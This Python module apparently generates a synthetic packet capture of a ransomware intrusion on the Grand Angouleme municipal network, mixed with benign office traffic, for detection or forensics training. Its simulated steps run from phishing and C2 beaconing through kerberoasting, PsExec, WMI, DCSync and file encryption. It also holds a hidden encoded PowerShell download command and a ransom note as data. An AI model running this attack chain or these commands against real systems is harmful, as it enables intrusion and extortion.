"""Grand Angouleme, November 2023: the demo municipal network of
config/vigie.yaml (agglomeration servers and users, city hall, L'Alpha
media library staff and public Wi-Fi, music school), modelled on the
ransomware case of that month, with an intrusion hidden in ordinary traffic.

An agglomeration user opens a phishing attachment, the implant beacons out,
the attacker maps the network (SYN scan, share and account enumeration),
sprays passwords and kerberoasts a service account, then moves laterally with
it (PsExec, RDP, WMI, admin shares, scheduled tasks) from the agglomeration to
the city hall (Mairie) and the mediatheque, replicates the directory (DCSync)
and encrypts a Mairie file share. Around it: DNS, web, Kerberos and LDAP
logons, file server use, NTP of about sixty machines on every site."""
from ..net import SITE, Site
from ..network import Scenario
from ..protocols import UA_EDGE
from ..techniques import (beacon, dcsync, http_download, kerberoast, kerberos_spray, ntlm_check, psexec,
                          rdp_session, samr_enum, share_enum, share_exe_task, smb_encrypt, syn_scan, wmi_exec,
                          zip_of)
from ..benign import benign_admin_rdp, benign_files, benign_http, benign_intranet, benign_tls_internal, common_event

NAME = 'grand-angouleme'
TITLE = 'Grand Angouleme 2023'
CONFIG = 'config/vigie.yaml'
OUT = 'build/scenario/angouleme.pcap'
SEED = 2023
# 2023-11-14 17:40 Paris time: the evening before the attack was discovered.
SITE_AGGLO = Site((2023, 11, 14, 16, 40, 0), 600.0, 'AGGLO', 'agglo.local', 'Angouleme', '10.10.0.1')

SERVERS = [  # (address, name, open TCP ports) in agglo-servers and mairie-servers
    ('10.10.0.10', 'DC01', (53, 88, 135, 389, 445, 3389)),
    ('10.10.0.11', 'DC02', (53, 88, 135, 389, 445, 3389)),
    ('10.10.0.20', 'SRV-FICHIERS', (135, 445, 3389, 5985)),
    ('10.10.0.21', 'SRV-FINANCES', (135, 443, 445, 3389, 5985)),
    ('10.10.0.22', 'SRV-SIGB', (135, 443, 445, 3389)),
    ('10.10.0.23', 'SRV-RH', (135, 445, 1433, 3389, 5985)),
    ('10.10.0.25', 'SRV-IMPRESSION', (135, 445, 3389)),
    ('10.10.0.30', 'SRV-INTRANET', (80, 135, 443, 445, 3389)),
    ('10.10.0.35', 'SRV-WSUS', (80, 135, 445, 3389, 8530)),
    ('10.10.0.40', 'SRV-SAUVEGARDE', (22, 9102)),
    ('10.20.0.10', 'MAIRIE-RDS', (135, 445, 3389)),
    ('10.20.0.11', 'MAIRIE-APP', (135, 445, 3389, 5985)),
    ('10.20.0.20', 'MAIRIE-FICHIERS', (135, 445, 3389)),
    ('10.20.0.21', 'MAIRIE-ETATCIVIL', (135, 443, 445, 3389)),
    ('10.20.0.25', 'MAIRIE-IMPRESSION', (80, 135, 445)),
]
DEAD = ['10.10.0.5', '10.10.0.6', '10.10.0.12', '10.10.0.13', '10.10.0.24', '10.10.0.26', '10.10.0.31',
        '10.10.0.41', '10.10.0.50', '10.10.0.51', '10.20.0.5', '10.20.0.12', '10.20.0.13', '10.20.0.22',
        '10.20.0.30', '10.20.0.31', '10.20.0.40', '10.20.0.50']
SURNAMES = ['martin', 'bernard', 'dubois', 'thomas', 'robert', 'richard', 'petit', 'durand', 'leroy', 'moreau',
            'simon', 'laurent', 'lefebvre', 'michel', 'garcia', 'david', 'bertrand', 'roux', 'vincent',
            'fournier', 'morel', 'girard', 'andre', 'mercier', 'dupont', 'lambert', 'bonnet', 'francois',
            'martinez', 'legrand', 'garnier', 'faure', 'rousseau', 'blanc', 'guerin', 'muller', 'henry',
            'roussel', 'nicolas', 'perrin', 'morin', 'mathieu', 'clement', 'gauthier', 'dumont', 'lopez',
            'fontaine', 'chevalier', 'robin', 'masson']
INITIALS = 'acdefhijlmnpsv'
USERS = [f'{INITIALS[i * 5 % len(INITIALS)]}.{s}' for i, s in enumerate(SURNAMES)]
VICTIM_USER = USERS[12] = 'm.lefebvre'
SERVICE_ACCOUNTS = [('svc-sql-finances', 'MSSQLSvc/srv-finances.agglo.local:1433'),
                    ('svc-sql-rh', 'MSSQLSvc/srv-rh.agglo.local:1433'),
                    ('svc-intranet', 'HTTP/srv-intranet.agglo.local'),
                    ('svc-sauvegarde', 'BackupAgent/srv-sauvegarde.agglo.local'),
                    ('svc-sigb', 'HTTP/srv-sigb.agglo.local'),
                    ('svc-wsus', 'WSUS/srv-wsus.agglo.local'),
                    ('svc-etatcivil', 'MSSQLSvc/mairie-etatcivil.agglo.local:1433'),
                    ('svc-impression', 'HTTP/srv-impression.agglo.local')]
EXTERNAL_SITES = [
    ('www.service-public.fr', '203.0.113.20'), ('www.impots.gouv.fr', '203.0.113.21'),
    ('outlook.office365.com', '203.0.113.40'), ('login.microsoftonline.com', '203.0.113.41'),
    ('www.google.com', '203.0.113.60'), ('www.youtube.com', '203.0.113.61'),
    ('www.lemonde.fr', '198.51.100.30'), ('www.sudouest.fr', '198.51.100.31'),
    ('www.charentelibre.fr', '198.51.100.32'), ('www.legifrance.gouv.fr', '203.0.113.22'),
    ('teams.microsoft.com', '203.0.113.42'), ('www.wikipedia.org', '198.51.100.40'),
    ('www.angouleme.fr', '198.51.100.50'), ('www.grandangouleme.fr', '198.51.100.51'),
    ('chorus-pro.gouv.fr', '203.0.113.23'), ('www.marches-publics.gouv.fr', '203.0.113.24'),
    ('www.deezer.com', '198.51.100.60'), ('www.leboncoin.fr', '198.51.100.61'),
]
HTTP_SITES = [('www.msftconnecttest.com', '203.0.113.80', '/connecttest.txt', 'Microsoft NCSI'),
              ('ctldl.windowsupdate.com', '203.0.113.81',
               '/msdownload/update/v3/static/trustedr/en/disallowedcertstl.cab', 'Microsoft-CryptoAPI/10.0'),
              ('ocsp.digicert.com', '203.0.113.82', '/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ', 'Microsoft-CryptoAPI/10.0'),
              ('www.angouleme.fr', '198.51.100.50', '/agenda/', UA_EDGE)]
PHISH = ('partage-docs.net', '192.0.2.45')
C2 = ('cdn.msupdate-cloud.com', '192.0.2.87')


class GrandAngouleme(Scenario):
    def __init__(self, seed):
        super().__init__(seed, SITE_AGGLO, SERVERS, DEAD)
        self.dc = self.hosts['10.10.0.10']
        self.dc2 = self.hosts['10.10.0.11']
        self.victim = self.host('10.10.1.42', 'PC-AGGLO-0142', 'pc')
        self.fileserver = self.hosts['10.10.0.20']
        self.host('10.30.1.15', 'MEDIA-PRET-01', 'pc')


ATTACKER_USER = 'svc-sauvegarde'  # kerberoasted, cracked offline, member of Domain Admins


def step_phishing(sc, t):
    """a. The attachment is fetched over HTTP; the implant then beacons over TLS."""
    rng = sc.rng('phishing')
    v = sc.victim
    path = '/f/9c1e27/Deliberation_CA_2023-11-09.zip'
    size = http_download(sc, rng, t, v, PHISH, path,
                         lambda r: zip_of(r, 'Deliberation_CA_2023-11-09.pdf.js', (2023, 11, 14, 15, 2, 10), 21000),
                         'application/x-zip-compressed', 'Deliberation_CA_2023-11-09.zip',
                         'https://outlook.office365.com/')
    sc.note(t, 'a', f'phishing: {v.ip} GET http://{PHISH[0]}{path} ({size} bytes zip)')
    n = beacon(sc, rng, t + 14.0, v, C2)
    sc.note(t + 14.0, 'a', f'beacon: {v.ip} -> {C2[1]}:443 TLS SNI {C2[0]}, {n} check-ins about every 60 s')


def step_scan(sc, t):
    """b. nmap -sS of the server subnets."""
    rng = sc.rng('scan')
    v = sc.victim
    ports = (22, 80, 135, 443, 445, 3389, 5985)
    targets = [h for h in sc.hosts.values() if not h.external and h.addr[:2] in (b'\x0a\x0a', b'\x0a\x14')
               and h.addr[2] == 0]
    n = syn_scan(sc, rng, t, v, targets, ports)
    sc.note(t, 'b', f'SYN scan: {v.ip} -> {len(targets)} hosts x {len(ports)} ports in agglo-servers '
                    f'and mairie-servers ({n} probes)')


SHARES = {'SRV-FICHIERS': ['Partage', 'Direction', 'Profils$'], 'SRV-FINANCES': ['Compta', 'Budget'],
          'SRV-RH': ['Paie', 'Dossiers-RH'], 'SRV-SIGB': ['Catalogue'], 'MAIRIE-FICHIERS': ['Services', 'Elus'],
          'MAIRIE-APP': ['Applis'], 'MAIRIE-ETATCIVIL': ['EtatCivil', 'Scans']}


def step_share_enum(sc, t):
    """b. srvsvc NetShareEnumAll on each file-serving host."""
    rng = sc.rng('shares')
    v = sc.victim
    share_enum(sc, rng, t, v, VICTIM_USER, [(sc.named(name), shares) for name, shares in SHARES.items()])
    sc.note(t, 'b', f'share discovery: {v.ip} srvsvc NetShareEnumAll on {len(SHARES)} hosts '
                    f'({", ".join(SHARES)})')


def step_samr(sc, t):
    """b. samr: the users of the domain and the members of Domain Admins, from the DC."""
    rng = sc.rng('samr')
    v = sc.victim
    users = [(500, 'Administrateur'), (501, 'Invite'), (502, 'krbtgt')]
    users += [(1105 + i, u) for i, u in enumerate(USERS)]
    users += [(1160 + i, a) for i, (a, _) in enumerate(SERVICE_ACCOUNTS)]
    users += [(1170, 'adm-j.moreau'), (1171, 'adm-s.perrin')]
    samr_enum(sc, rng, t, v, sc.dc, VICTIM_USER, users, ('Domain Admins', 512), [500, 1163, 1170, 1171])
    sc.note(t, 'b', f'account discovery: {v.ip} -> {sc.dc.ip} samr EnumerateUsersInDomain x2, '
                    'LookupNamesInDomain("Domain Admins"), OpenGroup(512), GetMembersInGroup')


SPRAYED = USERS[20:35]


def step_spray(sc, t):
    """c. One password against 15 accounts over Kerberos."""
    v = sc.victim
    kerberos_spray(sc, sc.rng('spray'), t, v, sc.dc, SPRAYED)
    sc.note(t, 'c', f'password spray: {v.ip} -> {sc.dc.ip}:88/udp AS-REQ for {len(SPRAYED)} accounts, '
                    'all KDC_ERR_PREAUTH_FAILED')


def step_kerberoast(sc, t):
    """c. RC4-only TGS-REQs for every service account's SPN."""
    v = sc.victim
    kerberoast(sc, sc.rng('kerberoast'), t, v, sc.dc, VICTIM_USER, [spn for _, spn in SERVICE_ACCOUNTS])
    sc.note(t, 'c', f'kerberoast: {v.ip} -> {sc.dc.ip}:88 TGS-REQ etype 23 (RC4) only, '
                    f'{len(SERVICE_ACCOUNTS)} SPNs')


def step_ntlm(sc, t):
    """c. The cracked password is checked over SMB against the DC."""
    v = sc.victim
    ntlm_check(sc, sc.rng('ntlm'), t, v, sc.dc, ATTACKER_USER)
    sc.note(t, 'c', f'NTLM: {v.ip} -> {sc.dc.ip} SMB2 SESSION_SETUP NTLMSSP_AUTH {SITE.domain}\\{ATTACKER_USER} '
                    f'from {v.name}: success')


def step_psexec(sc, t):
    """d. PsExec onto the agglomeration's file server."""
    v, h = sc.victim, sc.fileserver
    size = psexec(sc, sc.rng('psexec'), t, v, h, ATTACKER_USER,
                  [('whoami', 'agglo\\svc-sauvegarde'),
                   ('nltest /dclist:agglo.local', 'dc01.agglo.local [PDC]\r\ndc02.agglo.local'),
                   ('net group "Domain Admins" /domain', 'Administrateur adm-j.moreau adm-s.perrin svc-sauvegarde')])
    sc.note(t, 'd', f'PsExec: {v.ip} -> {h.ip} tree connect \\\\{h.ip}\\ADMIN$, write PSEXESVC.exe '
                    f'({size} bytes, MZ), svcctl OpenSCManagerW, RCreateServiceW, RStartServiceW')


def step_rdp(sc, t):
    """e. From the compromised file server to the Mairie: RDP with an "admin" routing cookie."""
    src, dst = sc.fileserver, sc.hosts['10.20.0.10']
    rdp_session(sc, sc.rng('rdp'), t, src, dst, 'admin')
    sc.note(t, 'e', f'RDP: {src.ip} -> {dst.ip}:3389 X.224 Connection Request "Cookie: mstshash=admin", '
                    'CredSSP/TLS session of about 30 s')


def step_wmi(sc, t):
    """e. WMI over DCOM onto the Mairie's application server."""
    src, dst = sc.fileserver, sc.hosts['10.20.0.11']
    cmd = 'cmd.exe /Q /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu'
    wmi_exec(sc, sc.rng('wmi'), t, src, dst, ATTACKER_USER, cmd, 49702)
    sc.note(t, 'e', f'WMI: {src.ip} -> {dst.ip}:135 ISystemActivator RemoteCreateInstance(WbemLevel1Login), '
                    'then :49702 IWbemLevel1Login NTLMLogin + IWbemServices ExecMethod')


def step_mediatheque(sc, t):
    """e. To the mediatheque: C$ + an executable, then a scheduled task through \\atsvc."""
    src, dst = sc.fileserver, sc.hosts['10.30.1.15']
    path = 'Windows\\Temp\\wupdsvc.exe'
    task = '\\Microsoft\\Windows\\WindowsUpdate\\wupdsvc'
    size, t2 = share_exe_task(sc, sc.rng('mediatheque'), t, src, dst, ATTACKER_USER, path, 'wupdsvc', 14336, task,
                              '2023-11-15T03:00:00')
    sc.note(t, 'e', f'admin share: {src.ip} -> {dst.ip} tree connect \\\\{dst.ip}\\C$, write {path} '
                    f'({size} bytes, MZ)')
    sc.note(t2, 'e', f'scheduled task: {src.ip} -> {dst.ip} \\atsvc ITaskSchedulerService SchRpcRegisterTask '
                     f'{task}, SchRpcRun')


def step_dcsync(sc, t):
    """f. DCSync from the workstation."""
    v, dc = sc.victim, sc.dc
    dcsync(sc, sc.rng('dcsync'), t, v, dc, ATTACKER_USER, ('krbtgt', 'Administrateur', ATTACKER_USER), 49667)
    sc.note(t, 'f', f'DCSync: {v.ip} -> {dc.ip}:135 ept_map(drsuapi) -> :49667 drsuapi bind, DRSBind, '
                    'DRSCrackNames, DRSGetNCChanges x3 (krbtgt, Administrateur, svc-sauvegarde)')


FOLDERS = {'Finances': ['Budget_2024_previsionnel.xlsx', 'Compte_administratif_2022.pdf', 'Subventions_assoc.xlsx',
                        'Marches_voirie_2023.docx', 'Regie_recettes_oct.xlsx', 'Emprunts_tableau.xlsx',
                        'DM2_2023.pdf', 'Factures_fournisseurs_T3.xlsx', 'Taxe_fonciere_simulation.xlsx',
                        'Rapport_CRC_2021.pdf', 'Pret_CDC_contrat.pdf', 'Budget_annexe_eau.xlsx',
                        'Amortissements_2023.xlsx', 'Note_DOB_2024.docx', 'Mandats_novembre.csv',
                        'Tresorerie_previsions.xlsx', 'Inventaire_biens.xlsx'],
           'RH': ['Paie_octobre_2023.xlsx', 'Organigramme_2023.pdf', 'Contrats_saisonniers.docx',
                  'Plan_formation_2024.xlsx', 'Entretiens_annuels.docx', 'Absences_T3.xlsx', 'Fiches_poste.docx',
                  'Recrutement_policier_municipal.docx', 'Mutuelle_convention.pdf', 'CST_proces_verbal.docx',
                  'Primes_RIFSEEP.xlsx', 'Teletravail_charte.pdf', 'Effectifs_2023.xlsx', 'Medecine_travail.xlsx',
                  'Astreintes_planning.xlsx', 'Lignes_directrices_gestion.pdf', 'Bilan_social_2022.pdf'],
           'Etat-civil': ['Registre_naissances_2023.pdf', 'Registre_deces_2023.pdf', 'Mariages_2024_planning.xlsx',
                          'PACS_conventions.xlsx', 'Livret_famille_demandes.xlsx', 'Mentions_marginales.docx',
                          'Recensement_citoyen.xlsx', 'Cimetiere_concessions.xlsx', 'Changements_prenom.docx',
                          'Actes_reconnaissance.pdf', 'Archives_1990_index.xlsx', 'Parrainages_civils.docx',
                          'Titres_identite_RDV.xlsx', 'Attestations_accueil.xlsx', 'Bapteme_republicain.docx',
                          'Divorces_transcriptions.pdf', 'Statistiques_INSEE.xlsx'],
           'Urbanisme': ['PLU_reglement.pdf', 'Permis_construire_2023.xlsx', 'DIA_registre.xlsx',
                         'Certificats_urbanisme.xlsx', 'Declarations_prealables.xlsx', 'Cadastre_extraits.pdf',
                         'ERP_commissions.docx', 'Enseignes_autorisations.xlsx', 'Arretes_voirie.docx',
                         'Alignements.pdf', 'ZAC_Bussatte_bilan.xlsx', 'Servitudes.pdf', 'PC_recours.docx',
                         'Taxe_amenagement.xlsx', 'Plan_vigipirate_sites.pdf', 'Rapport_ABF.pdf',
                         'Conformites_2023.xlsx'],
           'Elus': ['Deliberations_CM_2023.docx', 'Convocations_CM.docx', 'Agenda_maire.xlsx',
                    'Indemnites_elus.xlsx', 'Discours_voeux_2024.docx', 'Commissions_composition.docx',
                    'Proces_verbal_CM_octobre.pdf', 'Delegations_signature.pdf', 'Courriers_administres.xlsx',
                    'Rapport_activite_2022.pdf', 'Jumelages_contacts.xlsx', 'Questions_ecrites.docx',
                    'Presse_revue.pdf', 'Declarations_interets.pdf', 'Budget_participatif.xlsx',
                    'Conseil_quartier_CR.docx', 'Protocole_ceremonies.docx']}
RANSOM_EXT = '.locked'
RANSOM_NOTE = ('~~~ Vos fichiers ont ete chiffres ~~~\r\n'
               'Tous vos documents, bases de donnees et sauvegardes ont ete chiffres.\r\n'
               'Pour les recuperer, contactez-nous avant 72 heures via le lien indique.\r\n'
               'Toute tentative de dechiffrement par un tiers entrainera la perte definitive des donnees.\r\n'
               'Identifiant de la victime : 7F3A-22C9-MAIRIE-ANGOULEME\r\n').encode()


def step_ransomware(sc, t):
    """g. Encryption of the Mairie's share from the agglomeration's file server."""
    src, dst = sc.fileserver, sc.hosts['10.20.0.20']
    n, took = smb_encrypt(sc, sc.rng('ransomware'), t, src, dst, ATTACKER_USER, 'Services', FOLDERS, RANSOM_EXT,
                          'Restore-My-Files.txt', RANSOM_NOTE)
    sc.note(t, 'g', f'ransomware: {src.ip} -> \\\\{dst.ip}\\Services: {n} files read, overwritten and renamed '
                    f'to *{RANSOM_EXT} in {took:.0f} s, ransom note in {len(FOLDERS)} folders')


STEPS = [(24.0, step_phishing), (95.0, step_scan), (124.0, step_share_enum), (150.0, step_samr),
         (176.0, step_spray), (204.0, step_kerberoast), (238.0, step_ntlm), (262.0, step_psexec),
         (306.0, step_rdp), (336.0, step_wmi), (364.0, step_mediatheque), (410.0, step_dcsync),
         (478.0, step_ransomware)]


AGGLO_DOCS = ['Direction\\CR_comite_direction_2023-11-06.docx', 'Transports\\Horaires_STGA_hiver.xlsx',
              'Dechets\\Collecte_tournees.xlsx', 'Communication\\Magazine_decembre.pdf',
              'Eau\\Analyses_octobre.xlsx', 'Urbanisme\\SCOT_revision.docx', 'Finances\\Budget_agglo_2024.xlsx']
MAIRIE_DOCS = ['Finances\\Regie_recettes_oct.xlsx', 'RH\\Absences_T3.xlsx', 'Etat-civil\\Mariages_2024_planning.xlsx',
               'Urbanisme\\Permis_construire_2023.xlsx', 'Elus\\Agenda_maire.xlsx']


def benign(sc):
    """About sixty machines on the four sites doing their usual work for ten minutes."""
    rng = sc.rng('benign')
    agglo = [sc.host(f'10.10.{1 + i // 10}.{11 + i * 7 % 60}', f'PC-AGGLO-{100 + i:04d}', 'pc') for i in range(24)]
    agglo.append(sc.victim)
    users = {h.ip: USERS[i] for i, h in enumerate(agglo[:-1])}
    users[sc.victim.ip] = VICTIM_USER
    mairie = [sc.host(f'10.20.{16 + i // 6}.{20 + i * 11 % 200}', f'PC-MAIRIE-{i + 1:03d}', 'pc') for i in range(12)]
    for i, h in enumerate(mairie):
        users[h.ip] = USERS[25 + i]
    media = [sc.host(f'10.30.1.{x}', name, 'pc') for x, name in ((11, 'MEDIA-BIB-01'), (12, 'MEDIA-BIB-02'),
                                                                  (15, 'MEDIA-PRET-01'), (18, 'MEDIA-ACCUEIL'))]
    for i, h in enumerate(media):
        users[h.ip] = USERS[38 + i]
    wifi = [sc.host(f'10.30.{130 + i // 3}.{40 + i * 17 % 200}', f'wifi-{i}', 'linux') for i in range(7)]
    conserv = [sc.host(f'10.40.{i // 2}.{30 + i * 9}', f'CONSERV-{i + 1:02d}', 'pc') for i in range(4)]
    for i, h in enumerate(conserv):
        users[h.ip] = USERS[43 + i]
    staff = agglo + mairie + media + conserv
    public_dns = sc.host('198.51.100.53', 'resolver')
    # The capture opens on a DC locator query, so packet offsets are scenario offsets.
    events = [(0.0, 'dns-srv', agglo[0])]
    for h in agglo + mairie:  # the policy lets only these zones take time from the DCs
        events.append((rng.uniform(1, 590), 'ntp', h))
    for h in rng.sample(staff, 12):
        events.append((rng.uniform(2, 560), 'logon', h))
    for _ in range(72):
        events.append((rng.uniform(1, 590), 'web', rng.choice(staff)))
    for _ in range(14):
        events.append((rng.uniform(1, 590), 'web', rng.choice(wifi)))
    for _ in range(18):
        events.append((rng.uniform(1, 590), 'http', rng.choice(staff)))
    for _ in range(10):
        events.append((rng.uniform(1, 580), 'intranet', rng.choice(agglo)))
    for _ in range(9):
        events.append((rng.uniform(1, 580), 'finances', rng.choice(mairie)))
    for _ in range(7):
        events.append((rng.uniform(1, 580), 'sigb', rng.choice(media)))
    for h in rng.sample(agglo[:-1], 6):
        events.append((rng.uniform(5, 540), 'files-agglo', h))
    for h in rng.sample(mairie, 3):
        events.append((rng.uniform(5, 400), 'files-mairie', h))
    for _ in range(14):
        events.append((rng.uniform(1, 590), 'dns-forward', None))
    events.append((rng.uniform(150, 420), 'admin-rdp', None))
    for k in range(3):
        events.append((60 + k * 200 + rng.uniform(0, 60), 'wsus', None))
    events.sort(key=lambda e: (e[0], e[1]))
    for i, (t, kind, h) in enumerate(events):
        r = sc.rng(f'benign/{i}')
        resolver = public_dns if h in wifi else (sc.dc if r.random() < 0.7 else sc.dc2)
        if common_event(sc, r, t, kind, h, resolver, public_dns, users, EXTERNAL_SITES, HTTP_SITES):
            continue
        if kind == 'intranet':
            benign_intranet(sc, r, t, h, sc.hosts['10.10.0.30'], 'intranet.agglo.local', USERS)
        elif kind == 'finances':
            benign_tls_internal(sc, r, t, h, sc.hosts['10.10.0.21'], 'finances.agglo.local')
        elif kind == 'sigb':
            benign_tls_internal(sc, r, t, h, sc.hosts['10.10.0.22'], 'sigb.agglo.local')
        elif kind == 'files-agglo':
            benign_files(sc, r, t, h, users[h.ip], sc.fileserver, 'Partage', AGGLO_DOCS)
        elif kind == 'files-mairie':
            benign_files(sc, r, t, h, users[h.ip], sc.hosts['10.20.0.20'], 'Services', MAIRIE_DOCS)
        elif kind == 'admin-rdp':
            benign_admin_rdp(sc, r, t, sc.host('10.10.5.3', 'PC-ADM-03', 'pc'), sc.hosts['10.10.0.21'],
                             'adm-j.moreau')
        elif kind == 'wsus':
            wsus = sc.hosts['10.10.0.35']
            benign_http(sc, r, t, wsus, public_dns, HTTP_SITES)



def build(seed):
    """The intrusion's steps, then the benign traffic around them."""
    sc = GrandAngouleme(seed)
    for t, step in STEPS:
        step(sc, t)
    benign(sc)
    return sc
